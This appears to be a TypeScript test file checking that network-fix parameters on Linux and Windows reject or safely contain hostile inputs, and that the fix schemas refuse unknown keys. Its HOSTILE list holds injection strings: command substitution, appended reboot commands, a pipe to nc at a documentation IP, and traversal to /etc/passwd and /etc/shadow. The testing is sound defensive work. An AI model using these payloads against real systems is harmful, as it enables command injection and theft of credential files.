/**
 * The hostile corpus against every fix's parameters. On Linux every value ends up in an argv
 * element, so each is refused by the fix's own validation before anything is planned or run —
 * unless it is a plain name (like "0x7f.1") that no program could read as an option or more.
 * On Windows the free-form ones (adapter and VM names) are accepted, and must never appear in the
 * PowerShell text: they travel as bound parameters, Base64-encoded at run time.
 */

import { describe, expect, it } from 'vitest';
import { readBack as said } from '../../common/catalogue/read-backs.ts';
import { LINUX_FIXES } from './linux-fixes.ts';
import { planFix } from './run-fix.ts';
import { WINDOWS_FIXES } from './windows-fixes.ts';

const HOSTILE = [
  "a'b",
  'a"b',
  '$(touch /tmp/pwned)',
  '`id`',
  'x; reboot',
  'x && reboot',
  'x | nc 203.0.113.1 1',
  'line\nbreak',
  'nul\u0000byte',
  '-rf',
  '--all',
  '../../etc/passwd',
  '/etc/shadow',
  'x'.repeat(5000),
  '网卡 以太网 2',
  '192.168.1.1; id',
  '192.168.1.0/24 && id',
  '0x7f.1',
];

/** A value that can only be a name: no option dash, no space, quote or shell character, short. */
const PLAIN = /^[A-Za-z0-9][A-Za-z0-9_.+@-]{0,63}$/;

const keysOf = (params: unknown): string[] => Object.keys((params as { shape?: Record<string, unknown> }).shape ?? {});

describe('hostile values in fix parameters', () => {
  const linux = LINUX_FIXES.flatMap((f) => keysOf(f.params).map((key) => [f.id, key] as const));
  it.each(linux)('Linux %s: %s refuses every hostile value before planning', async (id, key) => {
    for (const value of HOSTILE) {
      const planned = await planFix(id, { [key]: value }, 'linux');
      const refusedByValidation = !planned.ok && /^invalid parameter/.test(planned.error.message);
      expect(refusedByValidation || PLAIN.test(value), `${id} ${key}=${JSON.stringify(value.slice(0, 40))}`).toBe(true);
    }
  });

  it('covers every Linux fix and parameter', () => {
    expect(linux.length).toBeGreaterThanOrEqual(LINUX_FIXES.length);
  });

  const windows = WINDOWS_FIXES.flatMap((f) => keysOf(f.params).map((key) => [f.id, key] as const));
  it.each(windows)('Windows %s: %s is refused, or kept out of the script text', async (id, key) => {
    for (const value of HOSTILE) {
      const planned = await planFix(id, { [key]: value }, 'windows');
      if (!planned.ok) continue;
      for (const step of [...planned.value.plan.steps, ...planned.value.undo]) {
        if (step.kind === 'powershell') expect(step.script.includes(value), `${id} ${key}`).toBe(false);
        if (step.kind === 'run')
          expect(
            step.argv.some((a) => a.includes(value) && a !== value),
            `${id} ${key}`,
          ).toBe(false);
      }
    }
  });
});

describe('every fix refuses a parameter it does not know (strict schemas, none silently dropped)', () => {
  it.each([...LINUX_FIXES, ...WINDOWS_FIXES].map((f) => [f.id, f] as const))('%s', (_id, fix) => {
    const result = fix.params.safeParse({ smuggled: 'x' });
    expect(result.success).toBe(false);
    expect(result.error?.issues.some((i) => i.code === 'unrecognized_keys')).toBe(true);
  });

  it.each([...LINUX_FIXES, ...WINDOWS_FIXES].map((f) => [f.id, f] as const))(
    '%s: its journaled state before refuses a key it never wrote',
    (_id, fix) => {
      const result = fix.before.safeParse({ smuggled: 'x' });
      expect(result.success).toBe(false);
    },
  );

  it.each([
    ['its state before', 'strip', 'strict', /state before must be a strict object/],
    ['its parameters', 'strict', 'strip', /its parameters must be a strict object/],
  ] as const)('a fix whose %s would drop unknown keys is refused where it is declared', async (_what, before, params, error) => {
    const { z } = await import('zod');
    const { defineFix } = await import('./definition.ts');
    const object = (kind: 'strict' | 'strip') => (kind === 'strict' ? z.strictObject : z.object);
    expect(() =>
      defineFix({
        id: 'host.enable-adapter',
        platform: 'windows',
        params: object(params)({ adapter: z.string() }),
        before: object(before)({}),
        plan: async () => ({
          summary: { adapter: '' },
          steps: [],
          before: {},
          verify: async () => ({ ok: true, readBack: said('undo-restored', {}) }),
        }),
        undo: () => [],
      }),
    ).toThrow(error);
  });
});
